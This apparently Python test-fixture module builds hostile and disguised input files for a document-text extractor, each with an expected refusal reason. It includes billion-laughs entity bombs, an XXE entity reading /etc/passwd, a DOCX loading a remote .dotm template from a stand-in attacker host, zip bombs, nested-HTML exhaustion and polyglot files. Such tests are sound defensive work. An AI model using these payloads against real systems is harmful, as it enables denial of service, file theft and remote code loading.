"""Files made to do harm or to be taken for others: each with its name and words of its refusal."""

import gzip
import zlib

from tests.sources.files import member, pdf, raw_pdf, with_member, word

PARAGRAPHS = [
    "La maire de Vernaz a promis mardi que deux écoles ouvriraient dans la commune en 2027.",
    "« Aucun enfant ne fera plus de quinze minutes de car », a-t-elle déclaré devant le conseil.",
    "Le préfet a indiqué que l’État financerait 40 % des travaux, soit 4,8 millions d’euros.",
]
ARTICLE = "<html><body><article>{}</article></body></html>".format(
    "".join(f"<p>{paragraph}</p>" for paragraph in PARAGRAPHS)
)
PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\6\0\0\0\x1f\x15\xc4\x89"
EXE = b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff" + b"\0" * 48 + b"This program cannot be run in DOS mode."
LAUGHS = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10 if i else "lol"}">' for i in range(10))


def laughing_docx(doctype=f"<!DOCTYPE w:document [{LAUGHS}]>", said="&l9;") -> bytes:
    original = word("DIT")
    body = member(original, "word/document.xml").decode()
    head, rest = body.split("?>", 1)
    return with_member(
        original, "word/document.xml", f"{head}?>{doctype}{rest.replace('DIT', said)}".encode()
    )


def docx_that_loads(target: str) -> bytes:
    original = word("La maire promet deux écoles.")
    name = "word/_rels/document.xml.rels"
    loaded = (
        '<Relationship Id="rId99" TargetMode="External" Target="%s" Type="http://schemas.'
        'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
    )
    links = member(original, name).decode().replace("</Relationships>", loaded % target)
    return with_member(original, name, links.encode())


def busy_pdf(operators: int) -> bytes:
    """One page that is drawn by so many operators, deflated."""
    return raw_pdf([zlib.compress(b"BT /F1 1 Tf " + b"(a) Tj T* " * operators + b"ET", 9)])


HOSTILE = {
    "gzip as text": ("a.txt", lambda: gzip.compress(b"a" * 50_000_000), "archive"),
    "gzip as page": ("a.html", lambda: gzip.compress(b"<p>" * 5_000_000), "archive"),
    "deep page": ("a.html", lambda: b"<html><body>" + b"<div>" * 1_000_000 + b"Fin.", "nested"),
    "deep inline": ("a.html", lambda: b"<html><body><p>" + b"<b>" * 1_000_000 + b"Fin.", "nested"),
    "wide page": ("a.html", lambda: b"<html><body>" + b"<p>a" * 4_000_000, "memory"),
    "many attributes": (
        "a.html",
        lambda: b"<html><p " + b"a=b " * 4_000_000 + b">Fin.",
        "no article",
    ),
    "laughs in XHTML": (
        "a.xhtml",
        lambda: f'<?xml version="1.0"?><!DOCTYPE html [{LAUGHS}]>{ARTICLE} &l9;'.encode(),
        "entities",
    ),
    "laughs in DOCX": ("a.docx", laughing_docx, "entities"),
    "outside entity in DOCX": (
        "a.docx",
        lambda: laughing_docx('<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),
        "entities",
    ),
    "outside part in DOCX": (
        "a.docx",
        lambda: docx_that_loads("https://attaque.example/modele.dotm"),
        "another computer",
    ),
    "zip bomb in a part": (
        "a.docx",
        lambda: with_member(word("a"), "word/media/image1.xml", b" " * 300_000_000),
        "zip bomb",
    ),
    "zip bomb as body": (
        "a.docx",
        lambda: with_member(word("a"), "word/document.xml", b"<a/>" * 12_000_000),
        "zip bomb",
    ),
    "10,000 pages": ("a.pdf", lambda: raw_pdf([zlib.compress(b"BT ET")] * 10_000), "10000 pages"),
    "huge page": ("a.pdf", lambda: busy_pdf(8_000_000), "zip bomb"),
    "truncated PDF": ("a.pdf", lambda: pdf(["La maire promet."])[:200], "damaged"),
    "truncated DOCX": ("a.docx", lambda: word("La maire promet.")[:-400], "damaged"),
    "truncated page": ("a.html", lambda: ARTICLE[:60].encode(), "no article"),
    "image as page": ("a.html", lambda: PNG, "image"),
    "program as DOCX": ("a.docx", lambda: EXE, "program"),
    "program with a DOCX": ("a.docx", lambda: EXE + word("La maire promet."), "program"),
    "image with a page": ("a.html", lambda: b"GIF89a/*" + ARTICLE.encode(), "image"),
    "archive as DOCX": (
        "a.docx",
        lambda: with_member(b"PK\5\6" + b"\0" * 18, "a", b"a"),
        "archive",
    ),
    "page as PDF": ("a.pdf", lambda: ARTICLE.encode(), "web page"),
    "text as DOCX": ("a.docx", lambda: b"La maire promet.", "plain text"),
    "noise as PDF": ("a.pdf", lambda: bytes(range(1, 256)) * 9, "damaged"),
    "one long word": ("a.html", lambda: b"<html><body><p>" + b"a" * 11_000_000, "memory"),
    "nothing": ("a.pdf", lambda: b"", "empty"),
    "nothing as page": ("a.html", lambda: b"", "empty"),
}
